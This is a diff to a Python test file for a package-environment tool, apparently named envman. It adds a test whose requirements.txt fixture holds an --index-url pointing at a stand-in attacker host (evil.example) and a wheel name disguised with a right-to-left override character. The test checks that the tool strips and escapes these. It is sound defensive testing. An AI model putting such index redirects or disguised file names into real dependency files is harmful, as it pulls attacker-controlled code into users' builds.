@@ -150,3 +150,16 @@ def test_hostile_repositories_cost_nothing_and_leak_nothing(tmp_path, env, make)
     assert all(e["file"] != "requirements.txt" or make not in ("fifo", "symlink_out", "huge", "binary")
                for e in doc["evidence"])
     assert "root:" not in r.stdout
+
+
+def test_init_writes_invisible_characters_escaped_and_never_names_a_file_the_build_refuses(tmp_path, env):
+    import tomllib
+
+    repo = paper(tmp_path / "odd", {"requirements.txt": "numpy --index-url=http://evil.example/simple\nscipy\n"
+                                                        "baz @ https://example.org/\u202egnp.whl\n",
+                                    "a.py": "import torch\n"})
+    r = run_envman(["project", "init"], env=env, cwd=repo)
+    assert r.returncode == 0, r.stderr
+    text = (repo / "envman.toml").read_text()
+    assert 'requirements = "requirements.txt"' not in text and "\u202e" not in text and "\\u202e" in text
+    assert tomllib.loads(text)["requirements"] == ["scipy", "baz @ https://example.org/\u202egnp.whl"]
